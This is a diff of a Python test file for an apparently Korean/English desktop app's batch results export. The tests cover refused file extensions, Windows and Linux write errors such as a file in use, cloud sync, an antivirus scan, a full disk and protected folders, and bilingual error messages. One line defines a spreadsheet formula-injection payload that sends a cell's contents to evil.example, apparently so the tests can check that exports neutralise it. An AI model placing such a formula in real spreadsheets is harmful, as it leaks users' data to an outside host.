@@ -11,17 +11,24 @@ import shutil
 import subprocess
 import sys
 import zipfile
-from collections.abc import Sequence
+from collections.abc import Callable, Iterator, Sequence
 from pathlib import Path
 
 import openpyxl
 import pytest
 
 from popbill_gui.batch import export
-from popbill_gui.batch.export import ResultsFileError, check_results_target, result_table, write_results
+from popbill_gui.batch.export import (
+    ExportNameError,
+    ResultsFileError,
+    check_results_target,
+    result_table,
+    write_results,
+)
 from popbill_gui.batch.model import RowOutcome, RowState
 from popbill_gui.batch.reader import read_batch
 from popbill_gui.core.cells import FORMULA_STARTS
+from popbill_gui.core.export_names import export_name_problem
 from popbill_gui.core.messages import CATALOG
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
@@ -250,20 +257,35 @@ def test_a_file_open_in_excel_gives_the_sentence_after_a_few_attempts(
     assert error.key == "results.in_use" and isinstance(error, OSError)
     assert replace.calls == len(export.REPLACE_DELAYS) + 1 and pauses == list(export.REPLACE_DELAYS)
     assert sum(pauses) < 2  # a short retry: the clerk is waiting
-    assert "close it in Excel and export again" in error.describe("en") and "history" in error.describe("en")
-    assert "엑셀에서 닫고 다시 내보내세요" in error.describe("ko")
+    assert "such as Excel has it open, close it there and export again" in error.describe("en")
+    assert "synced (OneDrive) or scanned" in error.describe("en") and "history" in error.describe("en")
+    assert "엑셀 같은 다른 프로그램에 열려 있다면 그 프로그램에서 닫고 다시 내보내세요" in error.describe("ko")
     assert target.read_bytes() == b"what Excel has open" and no_temporary_files(tmp_path)
 
 
-def test_other_extensions_are_a_programming_error(tmp_path: Path) -> None:
-    with pytest.raises(ValueError, match=r"\.csv or \.xlsx"):
-        write_results(tmp_path / "results.txt", [["a"]])
+@pytest.mark.parametrize("name", ["결과.txt", "results.xls", "results", "results.csv.bak"])
+def test_other_extensions_are_refused_with_a_sentence(tmp_path: Path, name: str) -> None:
+    """The walk-through: exporting to 결과.txt wrote 결과.txt.xlsx. The name is refused, in words, nothing written."""
+    for attempt in (lambda path: write_results(path, [["a"]]), check_results_target):
+        with pytest.raises(ExportNameError) as caught:
+            attempt(tmp_path / name)
+        error = caught.value
+        assert isinstance(error, ValueError) and isinstance(error, ResultsFileError)  # as callers caught it before
+        assert error.key == "export.suffix" and f"{name}:" in error.describe("ko")
+        assert ".csv or .xlsx" in error.describe("en") and ".csv 또는 .xlsx" in error.describe("ko")
+    assert list(tmp_path.iterdir()) == []
+    problem = export_name_problem(tmp_path / name)
+    assert problem is not None and problem.describe("en") == error.describe("en")  # the check the window uses
+    assert export_name_problem("결과.XLSX") is None and export_name_problem("결과.csv") is None
 
 
 def test_every_results_sentence_is_in_both_languages() -> None:
     source = Path(export.__file__).read_text(encoding="utf-8")
     used = set(re.findall(r"\"(results\.[a-z_]+)\"", source))
-    assert used == {"results.in_use", "results.is_folder", "results.read_only", "results.not_writable"}
+    assert used == {
+        "results.in_use", "results.is_folder", "results.read_only", "results.not_writable", "results.syncing",
+        "results.scanned", "results.disk_full", "results.protected_folder",
+    }  # fmt: skip
     for key in used:
         korean, english = CATALOG[key]
         assert korean and english and korean != english, key
@@ -356,3 +378,139 @@ def test_check_results_target_before_anything_is_sent(tmp_path: Path, monkeypatc
         check_results_target(existing)
     assert caught.value.key == "results.in_use"
     assert existing.read_text(encoding="utf-8") == "old"
+
+
+# ---- the right cause (issue 21): what a refusal can tell ----
+#
+# Windows' refusals cannot happen here: they are made as Windows makes them (an OSError with its winerror) and handed
+# to write_results where the real call would fail. The POSIX ones (a read-only file, a read-only folder, a read-only
+# file system, a full disk) happen for real below.
+
+
+def windows_error(kind: type[OSError], number: int, winerror: int, text: str, path: str) -> OSError:
+    error = kind(number, text, path)
+    error.winerror = winerror  # type: ignore[attr-defined]  # what CPython sets on Windows
+    return error
+
+
+class RefusingReplace:
+    """os.replace as Windows refuses it: the same error every time."""
+
+    def __init__(self, error: OSError) -> None:
+        self.error = error
+        self.calls = 0
+
+    def __call__(self, source: str, target: str) -> None:
+        self.calls += 1
+        raise self.error
+
+
+# (the error, its errno as CPython maps the winerror, the winerror, Windows' words, the sentence)
+@pytest.mark.parametrize(
+    ("kind", "number", "winerror", "text", "key"),
+    [
+        (PermissionError, 13, 32, "The process cannot access the file because it is being used by another process",
+         "results.in_use"),
+        (PermissionError, 13, 5, "Access is denied", "results.in_use"),  # MoveFileEx onto a file Excel holds open
+        (OSError, 22, 362, "The cloud file provider is not running", "results.syncing"),
+        (OSError, 22, 391, "The operation failed because the cloud file is in use", "results.syncing"),
+        (OSError, 22, 225, "Operation did not complete successfully because the file contains a virus",
+         "results.scanned"),
+        (OSError, 28, 112, "There is not enough space on the disk", "results.disk_full"),
+    ],
+)  # fmt: skip
+def test_a_refused_replace_says_what_windows_said(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    kind: type[OSError],
+    number: int,
+    winerror: int,
+    text: str,
+    key: str,
+) -> None:
+    target = tmp_path / "results.xlsx"
+    target.write_bytes(b"the old results")
+    refusing = RefusingReplace(windows_error(kind, number, winerror, text, str(target)))
+    monkeypatch.setattr(os, "replace", refusing)
+    monkeypatch.setattr(export.time, "sleep", lambda _: None)
+    with pytest.raises(ResultsFileError) as caught:
+        write_results(target, [["Row"], [2]])
+    assert caught.value.key == key
+    assert target.read_bytes() == b"the old results" and no_temporary_files(tmp_path)
+    held = key in ("results.in_use", "results.syncing", "results.scanned")  # a moment's: tried a few times
+    assert refusing.calls == (len(export.REPLACE_DELAYS) + 1 if held else 1)
+    for lang in ("ko", "en"):
+        assert "{" not in caught.value.describe(lang)
+
+
+@pytest.mark.parametrize(("kind", "winerror"), [(FileNotFoundError, 2), (PermissionError, 5)])
+def test_a_protected_folder_is_named(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: type[OSError], winerror: int
+) -> None:
+    """Controlled folder access answers "not found" (or "access denied") to a new file in a folder that exists."""
+
+    def blocked(*args: object, **kwargs: object) -> object:
+        raise windows_error(kind, 2 if winerror == 2 else 13, winerror, "blocked", str(tmp_path / "x"))
+
+    monkeypatch.setattr(export.tempfile, "mkstemp", blocked)
+    monkeypatch.setattr(export.tempfile, "TemporaryFile", blocked)
+    for attempt in (check_results_target, lambda path: write_results(path, [["a"]])):
+        with pytest.raises(ResultsFileError) as caught:
+            attempt(tmp_path / "결과.xlsx")
+        assert caught.value.key == "results.protected_folder"
+        assert "Controlled folder access" in caught.value.describe(
+            "en"
+        ) and "제어된 폴더 액세스" in caught.value.describe("ko")
+        assert str(tmp_path) in caught.value.describe("en")
+
+
+def test_the_same_refusal_elsewhere_is_a_folder_without_permission(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Without Windows' word for it (no winerror), a refused new file is a folder one cannot write to, as before."""
+
+    def refused(*args: object, **kwargs: object) -> object:
+        raise PermissionError(13, "Permission denied", str(tmp_path))
+
+    monkeypatch.setattr(export.tempfile, "mkstemp", refused)
+    with pytest.raises(ResultsFileError) as caught:
+        write_results(tmp_path / "results.csv", [["a"]])
+    assert caught.value.key == "results.not_writable"
+
+
+@pytest.fixture
+def mount_point(tmp_path: Path) -> Iterator[Callable[[str], Path]]:
+    """A tiny tmpfs mounted for the test (root only; skipped where mounting is not allowed)."""
+    mounted: list[Path] = []
+
+    def mount(options: str) -> Path:
+        where = tmp_path / f"mnt{len(mounted)}"
+        where.mkdir()
+        done = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(where)], capture_output=True)
+        if done.returncode != 0:
+            pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode(errors='replace').strip()}")
+        mounted.append(where)
+        return where
+
+    if sys.platform != "linux" or shutil.which("mount") is None:
+        pytest.skip("needs Linux's mount")
+    yield mount
+    for where in mounted:
+        subprocess.run(["umount", "-l", str(where)], capture_output=True)
+
+
+def test_a_full_disk_is_named(mount_point: Callable[[str], Path]) -> None:
+    disk = mount_point("size=64k")
+    (disk / "filler").write_bytes(b"\0" * 60 * 1024)
+    with pytest.raises(ResultsFileError) as caught:
+        write_results(disk / "results.csv", [["x" * 100]] * 2000)
+    assert caught.value.key == "results.disk_full" and "full" in caught.value.describe("en")
+    assert sorted(p.name for p in disk.iterdir()) == ["filler"]  # nothing half-written left
+
+
+def test_a_read_only_file_system_is_named(mount_point: Callable[[str], Path]) -> None:
+    disk = mount_point("size=64k,ro")
+    for attempt in (check_results_target, lambda path: write_results(path, [["a"]])):
+        with pytest.raises(ResultsFileError) as caught:
+            attempt(disk / "results.xlsx")
+        assert caught.value.key == "results.not_writable" and "Read-only file system" in caught.value.describe("en")
